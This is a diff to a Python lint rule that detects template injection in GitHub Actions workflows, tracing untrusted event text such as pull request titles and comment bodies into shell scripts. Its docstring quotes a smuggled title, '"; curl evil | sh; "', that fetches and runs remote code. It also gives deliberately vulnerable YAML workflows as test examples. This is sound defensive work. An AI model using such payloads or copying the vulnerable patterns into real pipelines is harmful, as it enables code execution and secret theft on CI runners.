@@ -2,60 +2,60 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-from gatekeeper import Finding, Fix
-from gatekeeper.models.pipeline import Step
-from gatekeeper.models.pipeline.expressions import Tree, found, parse
-from gatekeeper.models.pipeline.ir import line_of
-from gatekeeper.node import regex
-from gatekeeper.rule import rule
-
-_FREE = regex(
-    r"github\.(?:head_ref"
-    r"|event\.(?:issue|discussion)\.(?:title|body)"
-    r"|event\.pull_request\.(?:title|body|head\.(?:ref|label|repo\.(?:default_branch|description|homepage)))"
-    r"|event\.(?:comment|review|review_comment)\.body"
-    r"|event\.pages\.(?:\*|\d+)\.page_name"
-    r"|event\.(?:commits\.(?:\*|\d+)|head_commit)\.(?:message|author\.(?:email|name)|committer\.(?:email|name))"
-    r"|event\.workflow_run\.(?:display_title|head_branch|head_commit\.(?:message|author\.(?:email|name))|pull_requests\.(?:\*|\d+)\.head\.ref|head_repository\.description)"
-    r")\Z"
-)
+from gatekeeper import Finding, Fix, Note, Unknown
+from gatekeeper.models.pipeline.github.subjects import GithubJob
+from gatekeeper.models.pipeline.github.untrusted import PRIVILEGED, Hit, Scope, action_of, hits, script_of, triggers_of
+from gatekeeper.models.pipeline.ir import pairs, text_of
+from gatekeeper.node import Node
+from gatekeeper.rule import Spot, rule
 
 
-def _text(step: Step) -> str:
-    if step.run:
-        return step.run
-    return (
-        step.node["with"]["script"].text
-        if step.slug == "actions/github-script" and step.node["with"]["script"].known
-        else ""
-    )
+def _pastes(job: GithubJob) -> bool:
+    """Whether anything is put into a script of the job, or handed to what it calls."""
+    if job.pipeline.caller is not None:
+        return False
+    if job.called:
+        return any("${{" in text_of(node) for _, node in pairs(job.node["with"]))
+    for step in job.steps:
+        node = script_of(step)
+        if (node is not None and "${{" in text_of(node)) or action_of(step) is not None:
+            return True
+    return False
 
 
-def _pasted(tree: Tree) -> Iterator[str]:
-    """The paths whose text can end up in the script; what is only compared or searched cannot."""
-    if tree[0] == "path":
-        yield tree[1]
-    elif tree[0] == "opaque":
-        yield from _pasted(tree[1])
-    elif tree[0] == "||":
-        for part in tree[1:]:
-            yield from _pasted(part)
-    elif tree[0] == "&&":
-        yield from _pasted(tree[-1])
-    elif tree[0] == "call" and tree[1] in ("format", "join", "tojson", "fromjson"):
-        for argument in tree[2]:
-            yield from _pasted(argument)
+def _hits(job: GithubJob) -> Iterator[Hit]:
+    for step in job.steps:
+        yield from hits(step, Scope(job, step))
+    for inner in job.called.all_jobs if job.called else ():
+        for step in inner.steps:
+            for hit in hits(step, Scope(inner, step)):
+                if any(part.startswith("inputs.") for part in hit.taint.trail):  # the rest is said where it is written
+                    yield hit
+
+
+def _handed(job: GithubJob, hit: Hit) -> Node:
+    """Where the job hands the text to the workflow or the action that puts it into a script."""
+    user = next((step for step in job.steps if step.node["uses"].present and _runs(step.node["uses"], hit)), None)
+    givers = user.node["with"] if user is not None else job.node["with"]
+    names = {part.removeprefix("inputs.") for part in hit.taint.trail if part.startswith("inputs.")}
+    node = next((value for key, value in pairs(givers) if key.lower() in names), None)
+    return node or (user.node["uses"] if user is not None else job.uses_at)
+
+
+def _runs(uses: Node, hit: Hit) -> bool:
+    folder = hit.at.source.path.rpartition("/")[0]
+    return bool(folder) and text_of(uses).partition("@")[0].rstrip("/").endswith(folder)
 
 
 @rule(
     "pipeline-template-injection",
-    gate="security-posture",
+    gate="workflow-security",
     severity="high",
     seed="6.1 Security Hardening",
-    aliases=["CKV_GHA_2"],
-    where=lambda step: "${{" in _text(step),
+    aliases=["CKV_GHA_2", "zizmor:template-injection", "actionlint:untrusted-input"],
+    where=_pastes,
 )
-def template_injection(step: Step) -> Iterator[Finding]:
+def template_injection(job: GithubJob) -> Iterator[Finding | Unknown]:
     """No script has text pasted into it that anybody may write.
 
     `${{ }}` is put into a script before the shell reads it: a pull request titled `"; curl evil | sh; "` becomes part
@@ -63,12 +63,17 @@ def template_injection(step: Step) -> Iterator[Finding]:
     of branches of pull requests are such texts. Hand them over as environment variables: the shell does not parse
     those.
 
-    Judged are the contexts that GitHub's own hardening guide lists, in `run:` and in the script of
-    `actions/github-script`. Comparing such a text (`==`, `contains`) pastes only true or false.
+    Judged are the contexts that GitHub's own hardening guide lists, in `run:` and in the inputs of actions that run
+    them (`actions/github-script` and others). They are followed through `env`, the outputs of steps and jobs, and the
+    inputs of composite actions and reusable workflows of this repository. What a script makes of such a text before it
+    becomes an output is UNKNOWN. Comparing such a text (`==`, `contains`) pastes only true or false, and a text of an
+    event for which the job never runs is empty. What only people with rights here choose (the inputs of a manual start,
+    the branches and tags of the repository itself) is not judged; zizmor shows those as well. Where only `pull_request`
+    brings it, a fork's run has no secrets and a token that only reads: medium.
 
     Bad:
     ```yaml
-    on: pull_request
+    on: pull_request_target
     jobs:
       greet:
         runs-on: ubuntu-latest
@@ -81,9 +86,53 @@ def template_injection(step: Step) -> Iterator[Finding]:
               git checkout ${{ github.head_ref || github.ref_name }}
     ```
 
+    Bad, by way of a variable and an output:
+    ```yaml
+    on: issue_comment
+    jobs:
+      read:
+        runs-on: ubuntu-latest
+        outputs: {words: "${{ steps.body.outputs.words }}"}
+        env: {BODY: "${{ github.event.comment.body }}"}
+        steps:
+          - id: body
+            run: echo "words=$BODY" >> "$GITHUB_OUTPUT"
+          # expect: github.event.comment.body
+          - run: echo ${{ env.BODY }}
+      answer:
+        needs: read
+        runs-on: ubuntu-latest
+        steps:
+          # expect: github.event.comment.body
+          - run: ./answer.sh '${{ needs.read.outputs.words }}'
+    ```
+
+    Bad, in an action of the repository:
+    ```yaml .github/workflows/triage.yml
+    on: issues
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - uses: actions/checkout@v4
+          - uses: ./.github/actions/say
+            with:
+              # expect: github.event.issue.title
+              words: ${{ github.event.issue.title }}
+    ```
+    ```yaml .github/actions/say/action.yml
+    name: say
+    inputs: {words: {required: true}}
+    runs:
+      using: composite
+      steps:
+        - run: echo "${{ inputs.words }}"
+          shell: bash
+    ```
+
     Good:
     ```yaml
-    on: pull_request
+    on: [pull_request, push]
     jobs:
       greet:
         runs-on: ubuntu-latest
@@ -92,14 +141,38 @@ def template_injection(step: Step) -> Iterator[Finding]:
             env:
               TITLE: ${{ github.event.pull_request.title }}
           - run: echo ${{ contains(github.event.pull_request.title, 'WIP') }}
+      comment:
+        if: github.event_name == 'push'
+        runs-on: ubuntu-latest
+        steps:
+          - run: echo "${{ github.head_ref }}"
+    ```
+
+    Unknown:
+    ```yaml
+    on: issues
+    jobs:
+      triage:
+        runs-on: ubuntu-latest
+        steps:
+          - id: slug
+            run: echo "slug=$(echo "$TITLE" | tr -cd a-z)" >> "$GITHUB_OUTPUT"
+            env: {TITLE: "${{ github.event.issue.title }}"}
+          - run: ./label ${{ steps.slug.outputs.slug }}
     ```
     """
-    node = step.node["run"] if step.run else step.node["with"]["script"]
-    text = _text(step)
-    for start, _, inner in found(text):
-        tree = parse(inner)
-        named = next((path for path in _pasted(tree) if _FREE.match(path)), "") if tree else ""
-        if named:
-            place = line_of(node, text.count("\n", 0, start))
-            fix = Fix(f'env: {{VALUE: ${{{{ {named} }}}}}}, and "$VALUE" in the script')
-            yield Finding(place, f"{named} is pasted into the script: whoever writes it runs commands here", (), fix)
+    for hit in _hits(job):
+        triggers = triggers_of(hit.taint, job)
+        if not triggers:
+            continue
+        here = hit.at.source is job.node.source
+        at: Spot = hit.at if here else _handed(job, hit)
+        see = () if here else (Note(hit.at, "it is pasted into this script"),)
+        way = f" (by {', '.join(dict.fromkeys(hit.taint.trail))})" if hit.taint.trail else ""
+        if not hit.taint.certain:
+            yield Unknown(at, f"{hit.taint.path} may be pasted into the script{way}: what becomes of it is not known")
+            continue
+        fix = Fix(f'env: {{VALUE: ${{{{ {(*hit.taint.trail, hit.taint.path)[0]} }}}}}}, and "$VALUE" in the script')
+        words = f"{hit.taint.path} is pasted into the script{way}: whoever writes it runs commands here"
+        mild = not any(trigger.event in PRIVILEGED or trigger.ref in ("call", "push-default") for trigger in triggers)
+        yield Finding(at, words, see, fix, severity="medium" if mild else None)
